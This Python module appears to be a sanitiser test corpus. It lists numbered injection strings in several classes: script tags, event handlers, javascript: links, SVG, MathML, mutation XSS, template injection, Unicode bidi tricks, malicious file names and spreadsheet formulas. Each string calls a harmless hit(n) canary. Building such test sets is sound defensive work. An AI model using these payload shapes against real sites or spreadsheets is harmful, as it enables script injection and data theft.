"""Texts that would do something if a page took them for more than text. They do nothing bad.

Each calls ``hit`` with its own number, or marks the page with its number, when it takes effect.
``@`` stands for that number. The classes are those that a page without defences falls for.
"""

from __future__ import annotations

from dataclasses import dataclass

RLO, LRO, PDF, RLI, PDI, RLM = "\u202e", "\u202d", "\u202c", "\u2067", "\u2069", "\u200f"

TEXTS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>hit(@)</script>",
        "<ScRiPt >hit(@)</sCrIpT>",
        "<script type=module>hit(@)</script>",
        "<script/x>hit(@)</script>",
        "</textarea><script>hit(@)</script>",
        "</title><script>hit(@)</script>",
        "</style></template><script>hit(@)</script>",
        "--><script>hit(@)</script>",
        "'><script>hit(@)</script>",
        '"></p><script>hit(@)</script>',
        "';hit(@);//",
        "</script><script>hit(@)</script>",
        '<script src="data:text/javascript,hit(@)"></script>',
        "<script>/*\u2028*/hit(@)</script>",
        "<<script>hit(@)</script>",
        "<noscript></noscript><script>hit(@)</script>",
    ),
    "handler": (
        "<img src=x onerror=hit(@)>",
        "<img src=x onerror='hit(@)' alt=pot>",
        "<IMG SRC=x OnErRoR=hit(@)>",
        "<img/src=x/onerror=hit(@)>",
        "<img src onerror=hit(@)>",
        '" onfocus=hit(@) autofocus tabindex=1 x="',
        "' onmouseover=hit(@) x='",
        '" onmouseover="hit(@)',
        "<input autofocus onfocus=hit(@)>",
        "<details open ontoggle=hit(@)>x</details>",
        "<video src=x onerror=hit(@)></video>",
        "<audio src=x onerror=hit(@)></audio>",
        "<video><source src=x onerror=hit(@)></video>",
        "<body onload=hit(@)>",
        "<button onclick=hit(@)>press</button>",
        "<select onfocus=hit(@) autofocus></select>",
        "<b onmouseenter=hit(@)>over</b>",
        "<iframe onload=hit(@)></iframe>",
        "<object data=x: onerror=hit(@)></object>",
        "<link rel=stylesheet href=x: onerror=hit(@)>",
        "<marquee onstart=hit(@)>x</marquee>",
        "<p oncontextmenu=hit(@) onclick=hit(@)>x",
    ),
    "scheme": (
        "<a href=javascript:hit(@)>go</a>",
        "<a href='JaVaScRiPt:hit(@)'>go</a>",
        "<a href='&#106;avascript:hit(@)'>go</a>",
        "<a href='java&Tab;script:hit(@)'>go</a>",
        "<a href=' javascript:hit(@)'>go</a>",
        "<a href='javascript://%0ahit(@)'>go</a>",
        "<iframe src=javascript:parent.hit(@)></iframe>",
        "<form action=javascript:hit(@)><button>send</button></form>",
        "<form><button formaction=javascript:hit(@)>send</button></form>",
        "<iframe srcdoc='<script>parent.hit(@)</script>'></iframe>",
        "<map><area href=javascript:hit(@)></map>",
        "[garden](javascript:hit(@))",
        "![pot](x onerror=hit(@))<img src=x onerror=hit(@)>",
        "<base href=javascript:/><a href='#' onclick=hit(@)>go</a>",
    ),
    "svg": (
        "<svg onload=hit(@)>",
        "<svg/onload=hit(@)>",
        "<svg><script>hit(@)</script></svg>",
        "<svg><script>hit&#40;@)</script></svg>",
        "<svg><a xlink:href=javascript:hit(@)><text y=9>go</text></a></svg>",
        "<svg><image href=x: onerror=hit(@)></image></svg>",
        "<svg><animate onbegin=hit(@) attributeName=x dur=1s></svg>",
        "<svg><set onbegin=hit(@) attributeName=x></svg>",
        "<svg><foreignObject><img src=x onerror=hit(@)></foreignObject></svg>",
        "<svg><style><img src=x onerror=hit(@)></style></svg>",
        "<svg><title><img src=x onerror=hit(@)></title></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='hit(@)'/>",
    ),
    "mathml": (
        "<math><mtext><img src=x onerror=hit(@)></mtext></math>",
        "<math href=javascript:hit(@)>go</math><img src=x onerror=hit(@)>",
        "<math><mi><b onclick=hit(@)>x</b></mi></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=hit(@)></annotation-xml>",
        "<math><mi onclick=hit(@)>x</mi></math>",
        "<math><ms><svg onload=hit(@)></ms></math>",
        "<math><maction actiontype=statusline onclick=hit(@)>x</maction></math>",
        "<math><mtext></mtext><script>hit(@)</script></math>",
    ),
    "css": (
        "<style>*{--hit@:1}</style>",
        "<style type=text/css>body{--hit@:1}</style>",
        "</style><style>*{--hit@:1}</style>",
        "<link rel=stylesheet href='data:text/css,*{--hit@:1}'>",
        "<style>@import 'data:text/css,*{--hit@:1}';</style>",
        "<svg><style>*{--hit@:1}</style></svg>",
        "<style media=all>html *{--hit@:1}",
        '" style="--hit@:1',
        "' style='--hit@:1",
        "<b style=--hit@:1>x</b>",
    ),
    "template": (
        "{{hit(@)}}",
        "{{ hit(@) }}",
        "${hit(@)}",
        "{{constructor.constructor('hit(@)')()}}",
        "{{[].constructor.constructor('hit(@)')()}}",
        "{{$on?hit(@):hit(@)}}".replace("$on", "this"),
        "<%= hit(@) %>",
        "{% print(hit(@)) %}{{hit(@)}}",
        "#{hit(@)}",
        "{{config}}{{hit(@)}}",
        "{{''.__class__.__mro__}}${hit(@)}",
        "%(id)s %s {item} {0} {{hit(@)}}",
        "{count}{number}${hit(@)}",
        "$&$1$`${hit(@)}",
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=hit(@)>'></noscript>",
        "<svg></p><style><a id='</style><img src=x onerror=hit(@)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit(@)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(@)>",
        "<table><td><svg><desc><td></desc><img src=x onerror=hit(@)>",
        "<template><s></template><img src=x onerror=hit(@)>",
        "<select><template></select><img src=x onerror=hit(@)>",
        "<xmp></xmp><img src=x onerror=hit(@)>",
        "<!--><img src=x onerror=hit(@)>-->",
        "<!--!><img src=x onerror=hit(@)--><img src=x onerror=hit(@)>",
        "<![CDATA[><img src=x onerror=hit(@)>]]>",
        "<a title='`'><img src=x onerror=hit(@)>",
        "<p id='&quot;><img src=x onerror=hit(@)>'><img src=x onerror=hit(@)>",
        "&lt;img src=x onerror=hit(@)&gt;",
        "&amp;lt;img src=x onerror=hit(@)&amp;gt;",
        "\\u003cimg src=x onerror=hit(@)\\u003e<img src=x onerror=hit(@)>",
    ),
    "unicode": (
        f"pot {RLO}@ desrever",
        f"{RLO}@{RLO}{RLO} top",
        f"{RLI}@ open",
        f"{LRO}{RLO}@ both",
        f"a{RLM}{RLO}@",
        f"\u2068{RLO}@ first strong",
        f"zero\u200bwidth\u200d@\ufeff{RLO}",
        f"tag\U000e0041\U000e0042@{RLO}",
        f"\u0627\u0644\u0633\u0644\u0627\u0645 {RLO}@",
        f"e\u0301\u0302\u0303\u0304\u0305 @{RLO}",
        f"\U0001f469\u200d\U0001f33e @{RLO}",
        f"{PDF}{PDI}{RLO}@",
    ),
    "file name": (
        "'><img src=x onerror=hit(@)>.png",
        '"><img src=x onerror=hit(@)>.png',
        "pot.png<svg onload=hit(@)>",
        "<script>hit(@)</script>.png",
        "pot onerror=hit(@) .png<img src=x onerror=hit(@)>",
        '" onmouseover=hit(@) x=".png',
        "${hit(@)}.png",
        "{{hit(@)}}.png",
        f"pot@{RLO}gnp.exe<img src=x onerror=hit(@)>",
        "=hit(@).png<img src=x onerror=hit(@)>",
    ),
    "formula": (
        "=hit(@)",
        "=1+hit(@)",
        "+hit(@)",
        "-hit(@)",
        "@hit(@)",
        '=hit(@)&"A1"',
        "=(hit(@))",
        "=-hit(@)",
        "+1+hit(@)",
        "-1-hit(@)",
        "=[hit(@)]",
        "=!hit(@)",
        "=hit(@)|0",
        "+(hit(@))",
        "-(hit(@))",
        "=1*hit(@)",
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One text, its class, and the number by which it tells that it took effect."""

    number: int
    kind: str
    text: str


def payloads() -> list[Payload]:
    """Return all of them, numbered."""
    every = [(kind, text) for kind, texts in TEXTS.items() for text in texts]
    return [
        Payload(number, kind, text[:1] + text[1:].replace("@", str(number)))
        for number, (kind, text) in enumerate(every, start=1000)
    ]
